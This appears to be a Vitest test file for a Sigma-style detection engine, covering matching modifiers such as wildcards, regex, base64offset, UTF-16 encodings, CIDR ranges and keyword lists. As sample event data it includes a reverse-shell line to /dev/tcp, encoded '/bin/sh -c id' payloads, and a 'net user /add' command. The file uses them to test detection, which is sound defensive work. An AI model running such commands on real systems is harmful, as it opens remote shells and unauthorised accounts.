import { describe, expect, it } from "vitest";
import { compileRules, DetectionEngine } from "../../src/sigma";
import { matches, procRule } from "./helpers";

describe("plain values and wildcards", () => {
  it("is case-insensitive equality by default", () => {
    expect(matches("Image: '/usr/bin/CURL'", { Image: "/usr/bin/curl" })).toBe(true);
    expect(matches("Image: '/usr/bin/curl'", { Image: "/usr/bin/curl2" })).toBe(false);
  });
  it("supports * and ? and escapes them with backslash", () => {
    expect(matches("CommandLine: 'ls * /tm?'", { CommandLine: "ls -la /tmp" })).toBe(true);
    expect(matches("CommandLine: 'ls * /tm?'", { CommandLine: "ls -la /tm" })).toBe(false);
    expect(matches("CommandLine: 'echo \\*'", { CommandLine: "echo *" })).toBe(true);
    expect(matches("CommandLine: 'echo \\*'", { CommandLine: "echo x" })).toBe(false);
    expect(matches("CommandLine: 'a\\?'", { CommandLine: "a?" })).toBe(true);
    // a backslash not before a wildcard is literal; \\\\ is two backslashes
    expect(matches("Image: 'C:\\Windows\\x.exe'", { Image: "c:\\windows\\x.exe" })).toBe(true);
    expect(matches("Image: 'a\\\\\\\\b'", { Image: "a\\\\b" })).toBe(true);
    expect(matches("Image: 'a\\\\*'", { Image: "a\\anything" })).toBe(true);
  });
  it("matches numbers, booleans and list elements", () => {
    expect(matches("ProcessId: 42", { ProcessId: 42 })).toBe(true);
    expect(matches("ProcessId: 42", { ProcessId: "42" })).toBe(true);
    expect(matches("ImageDeleted: true", { ImageDeleted: true })).toBe(true);
    expect(matches("Tags: b", { Tags: ["a", "b"] })).toBe(true);
    expect(matches("Image:\n    - /bin/a\n    - /bin/b", { Image: "/bin/b" })).toBe(true);
  });
  it("treats null as a missing field and '' as empty", () => {
    expect(matches("User: null", { Image: "x" })).toBe(true);
    expect(matches("User: null", { User: "root" })).toBe(false);
    expect(matches("User: ''", { User: "" })).toBe(true);
    expect(matches("User: ''", { Image: "x" })).toBe(false);
  });
});

describe("string modifiers", () => {
  it("contains / startswith / endswith", () => {
    expect(matches("CommandLine|contains: 'WGET'", { CommandLine: "sudo wget x" })).toBe(true);
    expect(matches("Image|startswith: '/tmp/'", { Image: "/tmp/x" })).toBe(true);
    expect(matches("Image|startswith: '/tmp/'", { Image: "/var/tmp/x" })).toBe(false);
    expect(matches("Image|endswith: '/nc'", { Image: "/usr/bin/nc" })).toBe(true);
    expect(matches("Image|endswith: '/nc'", { Image: "/usr/bin/ncat" })).toBe(false);
  });
  it("all makes a list AND", () => {
    const sel = "CommandLine|contains|all:\n    - ' -i '\n    - /dev/tcp";
    expect(matches(sel, { CommandLine: "bash -i >& /dev/tcp/1.2.3.4/1" })).toBe(true);
    expect(matches(sel, { CommandLine: "bash /dev/tcp/1.2.3.4/1" })).toBe(false);
  });
  it("cased matches case-sensitively", () => {
    expect(matches("CommandLine|contains|cased: ' -O '", { CommandLine: "wget -O x" })).toBe(true);
    expect(matches("CommandLine|contains|cased: ' -O '", { CommandLine: "wget -o x" })).toBe(false);
  });
  it("windash accepts - / and unicode dashes for flags", () => {
    for (const cl of ["net user -add", "net user /add", "net user \u2013add", "net user \u2014add", "net user \u2015add"])
      expect(matches("CommandLine|windash|contains: ' -add'", { CommandLine: cl })).toBe(true);
    expect(matches("CommandLine|windash|contains: ' -add'", { CommandLine: "net user +add" })).toBe(false);
  });
  it("re with i, m and s flags; case-sensitive by default", () => {
    expect(matches("CommandLine|re: '\\s-[FTd]\\s'", { CommandLine: "curl -T f http://x" })).toBe(true);
    expect(matches("CommandLine|re: '\\s-[FTd]\\s'", { CommandLine: "curl -t f http://x" })).toBe(false);
    expect(matches("CommandLine|re|i: '^CURL'", { CommandLine: "curl x" })).toBe(true);
    expect(matches("CommandLine|re|m: '^b$'", { CommandLine: "a\nb\nc" })).toBe(true);
    expect(matches("CommandLine|re: '^b$'", { CommandLine: "a\nb\nc" })).toBe(false);
    expect(matches("CommandLine|re|s: 'a.b'", { CommandLine: "a\nb" })).toBe(true);
    expect(matches("CommandLine|re: 'a.b'", { CommandLine: "a\nb" })).toBe(false);
    expect(matches("CommandLine|re: '(?i)^CURL'", { CommandLine: "curl x" })).toBe(true);
  });
  it("base64 and base64offset find encoded text", () => {
    const b64 = Buffer.from("ping evil.example").toString("base64");
    expect(matches("CommandLine|base64: 'ping evil.example'", { CommandLine: b64 })).toBe(true);
    // The value at every offset inside a longer encoded blob.
    for (const prefix of ["", "x", "xy", "xyz"]) {
      const blob = Buffer.from(`${prefix}/bin/sh -c id; more`).toString("base64");
      expect(matches("CommandLine|base64offset|contains: '/bin/sh'", { CommandLine: `echo ${blob} | base64 -d` })).toBe(true);
    }
    const other = Buffer.from("/bin/bash -c id").toString("base64");
    expect(matches("CommandLine|base64offset|contains: '/bin/sh'", { CommandLine: other })).toBe(false);
  });
  it("utf16le / wide / utf16be / utf16 then base64", () => {
    const le = Buffer.from("cmd", "utf16le").toString("base64");
    expect(matches("CommandLine|wide|base64: 'cmd'", { CommandLine: le })).toBe(true);
    expect(matches("CommandLine|utf16le|base64: 'cmd'", { CommandLine: le })).toBe(true);
    const be = Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString("base64");
    expect(matches("CommandLine|utf16be|base64: 'cmd'", { CommandLine: be })).toBe(true);
    const bom = Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString("base64");
    expect(matches("CommandLine|utf16|base64: 'cmd'", { CommandLine: bom })).toBe(true);
    expect(matches("CommandLine|utf16|base64: 'cmd'", { CommandLine: le })).toBe(false);
  });
});

describe("type modifiers", () => {
  it("exists", () => {
    expect(matches("User|exists: true", { User: "" })).toBe(true);
    expect(matches("User|exists: true", { Image: "x" })).toBe(false);
    expect(matches("User|exists: false", { Image: "x" })).toBe(true);
  });
  it("lt / lte / gt / gte compare numbers", () => {
    expect(matches("BytesSent|gt: 100", { BytesSent: 101 })).toBe(true);
    expect(matches("BytesSent|gt: 100", { BytesSent: 100 })).toBe(false);
    expect(matches("BytesSent|gte: 100", { BytesSent: "100" })).toBe(true);
    expect(matches("BytesSent|lt: 100", { BytesSent: 99 })).toBe(true);
    expect(matches("BytesSent|lte: 100", { BytesSent: 101 })).toBe(false);
    expect(matches("BytesSent|lt: 100", { BytesSent: "n/a" })).toBe(false);
  });
  it("neq: present and different from every value", () => {
    expect(matches("User|neq: root", { User: "bob" })).toBe(true);
    expect(matches("User|neq: root", { User: "ROOT" })).toBe(false);
    expect(matches("User|neq: root", { Image: "x" })).toBe(false);
  });
  it("cidr for IPv4, IPv6 and v4-mapped addresses", () => {
    const sel = "DestinationIp|cidr:\n    - 10.0.0.0/8\n    - 'fd00::/8'";
    expect(matches(sel, { DestinationIp: "10.1.2.3" })).toBe(true);
    expect(matches(sel, { DestinationIp: "11.1.2.3" })).toBe(false);
    expect(matches(sel, { DestinationIp: "fd12:3456::1" })).toBe(true);
    expect(matches(sel, { DestinationIp: "fe80::1" })).toBe(false);
    expect(matches(sel, { DestinationIp: "::ffff:10.9.9.9" })).toBe(true);
    expect(matches("DestinationIp|cidr: 192.168.1.128/25", { DestinationIp: "192.168.1.127" })).toBe(false);
    expect(matches("DestinationIp|cidr: 192.168.1.128/25", { DestinationIp: "192.168.1.200" })).toBe(true);
    expect(matches(sel, { DestinationIp: "not-an-ip" })).toBe(false);
  });
  it("fieldref compares two fields (optionally with contains/startswith/endswith)", () => {
    expect(matches("User|fieldref: TargetUser", { User: "Bob", TargetUser: "bob" })).toBe(true);
    expect(matches("User|fieldref: TargetUser", { User: "bob", TargetUser: "root" })).toBe(false);
    expect(matches("CommandLine|fieldref|contains: Image", { CommandLine: "/bin/x -y", Image: "/bin/x" })).toBe(true);
  });
  it("time modifiers extract a UTC part of a date", () => {
    const t = Date.UTC(2024, 2, 5, 23, 7); // 2024-03-05 23:07 UTC, ISO week 10
    expect(matches("EventTime|hour: 23", { EventTime: t })).toBe(true);
    expect(matches("EventTime|hour|gte: 22", { EventTime: new Date(t).toISOString() })).toBe(true);
    expect(matches("EventTime|minute: 7", { EventTime: t })).toBe(true);
    expect(matches("EventTime|month: 3", { EventTime: t })).toBe(true);
    expect(matches("EventTime|week: 10", { EventTime: t })).toBe(true);
    expect(matches("EventTime|day: 6", { EventTime: t })).toBe(false);
  });
  it("expand replaces placeholders with configured values, and refuses unknown ones", () => {
    const text = procRule("User|expand: '%Administrators%'");
    const ok = compileRules([{ name: "a.yml", text }], { placeholders: { Administrators: ["root", "admin"] } });
    expect(ok.errors).toEqual([]);
    const bad = compileRules([{ name: "a.yml", text }]);
    expect(bad.errors[0]).toMatchObject({ feature: "placeholder %Administrators%", line: 8, source: "a.yml" });
  });
  it("keyword lists search every field; '|all' ANDs them", () => {
    const rule = `title: K\nid: k\nlogsource: {product: linux}\ndetection:\n    keywords:\n        - 'Accepted password'\n        - 'evil'\n    kall:\n        '|all':\n            - 'session'\n            - 'opened'\n    condition: keywords or kall\n`;
    const { ruleset, errors } = compileRules([{ name: "k.yml", text: rule }]);
    expect(errors).toEqual([]);
    const engine = new DetectionEngine(ruleset);
    const ev = (fields: Record<string, unknown>) => ({ logsource: { product: "linux" }, fields, timeMs: 0 });
    expect(engine.process(ev({ Message: "sshd[1]: Accepted password for bob" }))).toHaveLength(1);
    expect(engine.process(ev({ Other: "EVIL" }))).toHaveLength(1);
    expect(engine.process(ev({ Message: "session opened for root" }))).toHaveLength(1);
    expect(engine.process(ev({ Message: "session closed" }))).toHaveLength(0);
  });
});
